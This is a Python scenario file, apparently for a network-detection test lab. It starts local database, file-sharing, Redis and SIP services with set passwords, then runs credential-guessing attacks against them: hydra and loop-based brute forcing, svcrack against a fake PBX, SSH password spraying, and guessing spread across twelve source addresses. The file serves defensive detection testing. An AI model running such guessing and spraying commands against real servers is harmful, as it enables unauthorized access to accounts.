"""Passwords guessed: databases, file servers, telephone exchanges; one at each of many servers, three from each of many sources."""

import os
import time
from functools import partial

import kit
import services
from kit import play
from lab import WWW

PW = [f"pass{i}word" for i in range(40)]


guess = partial(kit.guess, passwords="\n".join(PW[:24]) + "\n", users="root\nadmin\njonas\n")


def mariadb(lab):
    h = lab.hosts["www"]
    d = lab.work + "/maria"
    os.makedirs(d)
    lab.run(
        h,
        f"mariadb-install-db --no-defaults --user=root --datadir={d} --auth-root-authentication-method=normal --skip-test-db",
        60,
    )
    lab.spawn(
        h,
        [
            "mariadbd",
            "--no-defaults",
            "--user=root",
            f"--datadir={d}",
            f"--socket={d}/s",
            "--bind-address=0.0.0.0",
            "--skip-name-resolve",
            "--max-connect-errors=10000",
        ],
    )
    services.ready(h, 3306, tries=200)
    lab.file(
        "init.sql",
        "create user 'app'@'%' identified by 'x9'; create user 'root'@'%' identified by 'zz9'; create database shop; grant all on shop.* to 'app'@'%'; flush privileges;",
    )
    lab.run(h, f"mariadb --no-defaults -u root -S {d}/s < init.sql")


def postgres(lab, h=None):
    h = h or lab.hosts["www"]
    d = lab.work + "/pg"

    os.chmod(lab.work, 0o777)
    lab.run(
        h,
        f"mkdir {d}; chown postgres {d}; su postgres -s /bin/sh -c 'echo geheim > {lab.work}/pw; initdb -D {d} -A scram-sha-256 --pwfile={lab.work}/pw' ",
        60,
    )
    lab.file(
        "pgrun.sh",
        f"echo 'host all all 0.0.0.0/0 scram-sha-256' >> {d}/pg_hba.conf; exec su postgres -s /bin/sh -c 'exec postgres -D {d} -h 0.0.0.0 -k {d}'",
    )
    p = lab.spawn(h, ["sh", "pgrun.sh"])
    services.ready(h, 5432, tries=200)
    return p


def redis(lab):
    h = lab.hosts["www"]
    lab.spawn(h, ["redis-server", "--bind", "0.0.0.0", "--requirepass", "zz9top", "--save", "", "--dir", lab.work])
    services.ready(h, 6379)


def smb(lab):
    h = lab.hosts["www"]
    base = lab.work + "/smbd"
    for d in ("private", "lock", "state", "cache", "pid", "ncalrpc"):
        os.makedirs(f"{base}/{d}", exist_ok=True)
    conf = lab.file(
        "smbd.conf",
        "[global]\n"
        + "".join(
            f"{k} = {base}/{v}\n"
            for k, v in (
                ("private dir", "private"),
                ("lock directory", "lock"),
                ("state directory", "state"),
                ("cache directory", "cache"),
                ("pid directory", "pid"),
                ("ncalrpc dir", "ncalrpc"),
                ("log file", "log"),
            )
        )
        + "map to guest = never\nload printers = no\n",
    )
    lab.spawn(h, ["smbd", "-F", "--no-process-group", "-s", conf])
    services.ready(h, 445)


SIPREG = """
import socket,os,re
s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.bind(("0.0.0.0",5060))
while True:
    d,a=s.recvfrom(4000); t=d.decode(errors="replace"); m=t.split(" ",1)[0]
    h=dict(re.findall(r"(?im)^(via|from|to|call-id|cseq):\\s*(.*?)\\r?$",t)); h={k.lower():v for k,v in h.items()}
    auth="Authorization" in t
    code="200 OK" if m=="OPTIONS" else ("403 Forbidden" if auth else "401 Unauthorized")
    r=f"SIP/2.0 {code}\\r\\nVia: {h.get('via','')}\\r\\nFrom: {h.get('from','')}\\r\\nTo: {h.get('to','')};tag=x{os.urandom(3).hex()}\\r\\nCall-ID: {h.get('call-id','')}\\r\\nCSeq: {h.get('cseq','')}\\r\\nServer: Asterisk PBX\\r\\n"
    if code.startswith("401"): r+=f'WWW-Authenticate: Digest algorithm=MD5, realm="asterisk", nonce="{os.urandom(4).hex()}"\\r\\n'
    s.sendto((r+"Content-Length: 0\\r\\n\\r\\n").encode(),a)
"""

guess(
    "guess-mysql",
    "medusa",
    f"for p in $(cat p.txt); do mariadb --no-defaults --skip-ssl -h {WWW} -u root -p$p -e quit; done",
    WWW,
    prepare=mariadb,
    attacker=91,
)
guess(
    "hydra-postgres",
    "hydra",
    f"hydra -q -l postgres -P p.txt -t 3 -I postgres://{WWW}",
    WWW,
    prepare=postgres,
    attacker=92,
)
guess("hydra-redis", "hydra", f"hydra -q -P p.txt -t 3 -I redis://{WWW}", WWW, prepare=redis, attacker=93)
guess(
    "guess-smb",
    "medusa",
    f"for p in $(head -16 p.txt); do smbclient -s /dev/null -L //{WWW} -U root%$p -m SMB3; done",
    WWW,
    prepare=smb,
    attacker=94,
    bg=("web-in",),
)
guess(
    "svcrack",
    "python",
    f"timeout 25 svcrack -u 100 -d p.txt {WWW}",
    WWW,
    attacker=117,
    prepare=lambda lab: (services.python(lab.hosts["www"], "sip.py", SIPREG), time.sleep(0.5)),
    note="REGISTER with one password after the other.",
)
guess(
    "ssh-password-spray",
    "hydra",
    "for h in 10 44 45 46; do sshpass -p sommer1 ssh -F none -o ConnectTimeout=3 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o NumberOfPasswordPrompts=1 root@192.0.2.$h true; sshpass -p sommer2 ssh -F none -o ConnectTimeout=3 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o NumberOfPasswordPrompts=1 admin@192.0.2.$h true; done",
    WWW,
    attacker=115,
    bg=("ssh-in",),
    note="Two users on four servers, each once.",
    prepare=lambda lab: [services.ssh(lab.host(f"s{i}", "in", i)) for i in (44, 45, 46)],
)


@play(
    "ssh-guess-twelve-sources",
    "python",
    "alert",
    "password-guessing",
    need=("www", "clients", "pcs", "site", "resolver"),
    bg=("web-in", "ssh-in"),
    sources=[f"198.51.100.{i}" for i in range(120, 132)],
    targets=[WWW],
    note="Twelve sources, three tries each, one user.",
)
def _(lab):
    eve = lab.host("eve", "out", 120, extra=tuple(range(121, 132)))
    yield
    for r in range(3):
        for s in range(120, 132):
            lab.run(
                eve,
                f"sshpass -p guess{r}{s} ssh -F none -b 198.51.100.{s} -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o NumberOfPasswordPrompts=1 -o PubkeyAuthentication=no root@{WWW} true",
                15,
            )
            time.sleep(0.15)
    lab.commands.append("sshpass -p GUESS ssh -b ADDRESS root@www true, three times from each of twelve addresses")
    yield
